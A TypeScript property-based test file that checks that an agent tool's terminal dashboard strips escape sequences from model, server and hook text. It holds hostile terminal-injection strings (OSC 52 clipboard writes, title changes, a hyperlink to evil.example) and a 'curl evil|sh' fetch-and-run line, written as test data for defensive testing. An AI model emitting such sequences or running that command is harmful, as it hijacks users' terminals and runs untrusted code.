import { EventEmitter } from "node:events";
import fc from "fast-check";
import { render } from "ink";
import { describe, expect, it, vi } from "vitest";
import type { EventInput } from "../../src/events/types.js";
import { App } from "../../src/ui/App.js";
import { DialogApprover } from "../../src/ui/dialog-approver.js";
import { terminalSafe } from "../../src/util/terminal-text.js";
import { TestSession } from "./ui-session.js";

/**
 * Issue 33: model text (a delegate label, a tool name) reached the terminal raw, and OSC 52 set
 * the clipboard. Every string an event carries — what a model, a server, a hook or a log can say —
 * gets random escape sequences here; what the dashboard writes may hold the styles it draws
 * itself (SGR) and nothing else that a terminal would act on.
 */

/** Sequences a terminal acts on, 7-bit and C1, terminated and not. */
const NASTY = [
  "\u001B]52;c;ZWNobyBQV05FRA==\u0007",
  "\u001B]2;PWNED-TITLE\u001B\\",
  "\u001B]0;t",
  "\u001B]8;;https://evil.example\u001B\\link\u001B]8;;\u001B\\",
  "\u001BP+q544e\u001B\\",
  "\u001B_apc\u001B\\",
  "\u001B^pm\u001B\\",
  "\u001BXsos\u001B\\",
  "\u001B[2J",
  "\u001B[H",
  "\u001B[10;20H",
  "\u001B[5A",
  "\u001B[?1049l",
  "\u001B[?25l",
  "\u001B[31m",
  "\u001Bc",
  "\u001B7",
  "\u001B(0",
  "\u009B2J",
  "\u009D52;c;eA==\u0007",
  "\u0090q\u009C",
  "\u009F\u009C",
  "\r",
  "\b\b",
  "\u0007",
];
const piece = fc.oneof(
  fc.constantFrom(...NASTY),
  fc.string({ maxLength: 12 }),
  fc.array(fc.constantFrom("\u001B", "\u0007", "\u009B", "\u009D", "[", "]", "P", "_", "^", "\\", ";", "5", "2", "H", "m", "a", "\n"), { maxLength: 10 }).map((cs) => cs.join("")),
);
const dirty = fc.array(piece, { minLength: 1, maxLength: 6 }).map((parts) => parts.join(""));

/** What may remain of an escape in a frame: the SGR styles the dashboard draws. */
const SGR = /\u001B\[[0-9;:]*m/g;
/** Anything a terminal would act on besides newlines: ESC, C1, other C0 controls. */
const ACTIVE = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F]/;

function actsOnTerminal(text: string): string | null {
  const rest = text.replace(SGR, "");
  const at = rest.search(ACTIVE);
  return at < 0 ? null : JSON.stringify(rest.slice(Math.max(0, at - 10), at + 20));
}

describe("terminalSafe", () => {
  it("an unterminated string control does not swallow the lines after it", () => {
    for (const intro of ["\u009D", "\u0090", "\u001B]", "\u001BP"]) {
      expect(terminalSafe(`npm test ${intro}0;x\ncurl evil|sh`)).toBe("npm test \ncurl evil|sh");
    }
    expect(terminalSafe("a\u001B]2;title\u0007b")).toBe("ab");
  });
});

describe("terminalSafe (property)", () => {
  it("leaves no escape, no C1 and no control but newlines, and is idempotent", () => {
    fc.assert(
      fc.property(dirty, (text) => {
        const clean = terminalSafe(text);
        expect(clean.search(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F]/)).toBe(-1);
        expect(terminalSafe(clean)).toBe(clean);
      }),
      { numRuns: 2000 },
    );
  });
});

class FakeTerminal extends EventEmitter {
  frames: string[] = [];
  isTTY = true;
  columns = 140;
  rows = 50;
  write(chunk: string): boolean {
    this.frames.push(chunk);
    return true;
  }
}

class FakeInput extends EventEmitter {
  isTTY = true;
  setRawMode(): void {}
  setEncoding(): void {}
  ref(): void {}
  unref(): void {}
  read(): null {
    return null;
  }
}

/** One of each event the dashboard shows, every free-text field dirty (ids stay orca's own). */
function events(s: () => string): EventInput[] {
  const usage = { input: 1, output: 1, cached: 0 };
  return [
    { type: "session_started", agentId: "root", workspace: s(), model: s(), configPath: s(), version: s() },
    { type: "mcp_status", agentId: "root", server: s(), state: "failed", reason: s() },
    { type: "user_message", agentId: "root", text: s() },
    { type: "text_delta", agentId: "root", text: s() },
    { type: "thinking_delta", agentId: "root", text: s() },
    {
      type: "assistant_message",
      agentId: "root",
      content: s(),
      toolCalls: [
        { id: "c1", name: "delegate", raw: s(), args: { agent: s(), task: s(), label: s() } },
        { id: "c2", name: s(), raw: s(), args: { command: s(), path: s() } },
        { id: "c3", name: s(), raw: s(), args: { nested: { deep: [s()] } } },
      ],
    },
    { type: "agent_started", agentId: "a1", parentId: "root", name: s(), label: s(), task: s(), tools: [s()], depth: 1, model: s(), system: s() },
    { type: "text_delta", agentId: "a1", text: s() },
    { type: "tool_queued", agentId: "a1", parentId: "root", callId: "q1", name: s(), args: { path: s() }, access: { reads: [s()], writes: [] }, waitsFor: [s()] },
    { type: "tool_queued", agentId: "a1", parentId: "root", callId: "q2", name: s(), args: { command: s() }, access: { reads: [], writes: [s()] }, waitsFor: [] },
    { type: "tool_started", agentId: "a1", parentId: "root", callId: "q2", name: s() },
    { type: "permission_requested", agentId: "a1", parentId: "root", callId: "q1", tool: s(), args: { path: s() }, rule: s() },
    { type: "permission_decided", agentId: "a1", parentId: "root", callId: "q1", tool: s(), rule: s(), decision: "deny", scope: "once", by: "user", reason: s() },
    { type: "tool_finished", agentId: "a1", parentId: "root", callId: "q2", name: s(), ok: false, status: "error", content: s(), error: s(), durationMs: 3, diff: s() },
    { type: "write_conflict", agentId: "a1", parentId: "root", callId: "q3", tool: s(), path: s(), reason: "stale", changedBy: { kind: "outside" }, message: s() },
    { type: "hook_started", agentId: "a1", parentId: "root", hookId: "h1", hookEvent: s(), command: s(), source: s(), callId: "q2" },
    { type: "hook_finished", agentId: "a1", parentId: "root", hookId: "h1", hookEvent: s(), command: s(), callId: "q2", exitCode: 1, durationMs: 1, outcome: "error", decision: "none", message: s(), systemMessage: s() },
    { type: "worktree", agentId: "a1", parentId: "root", action: "conflict", path: s(), branch: s(), files: [s()], message: s() },
    { type: "compacted", agentId: "a1", parentId: "root", beforeTokens: 9, afterTokens: 1, roundsSummarised: 1, summary: s(), replacedMessages: 2 },
    { type: "error", agentId: "a1", parentId: "root", where: s(), message: s() },
    { type: "agent_finished", agentId: "a1", parentId: "root", status: "failed", result: s(), steps: 1, usage, filesChanged: [s()] },
    { type: "process_ended", agentId: "root", pgid: 1, reaped: true, kind: "bash", command: s() },
    { type: "user_message", agentId: "root", text: "END-MARKER" },
  ];
}

describe("the rendered dashboard (property)", () => {
  it("writes no OSC, DCS, APC, PM, cursor move or other active sequence, whatever the events and the permission request say", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(dirty, { minLength: 80, maxLength: 80 }), async (texts) => {
        let i = 0;
        const s = () => texts[i++ % texts.length]!;
        const session = new TestSession();
        const approver = new DialogApprover();
        const out = new FakeTerminal();
        const app = render(<App session={session} approver={approver} />, {
          stdout: out as unknown as NodeJS.WriteStream,
          stdin: new FakeInput() as unknown as NodeJS.ReadStream,
          debug: true,
          exitOnCtrlC: false,
          patchConsole: false,
        });
        try {
          for (const event of events(s)) session.emit(event);
          void approver.request({ callId: "p", agentId: "a1", agentName: s(), tool: s(), args: { command: s(), path: s() }, rule: s(), preview: s() }, new AbortController().signal);
          await vi.waitFor(() => expect(out.frames.at(-1) ?? "").toContain("END-MARKER"), { timeout: 10_000, interval: 5 });
          for (const frame of out.frames) expect(actsOnTerminal(frame)).toBeNull();
        } finally {
          app.unmount();
          app.cleanup();
        }
      }),
      { numRuns: 25 },
    );
  }, 120_000);
});
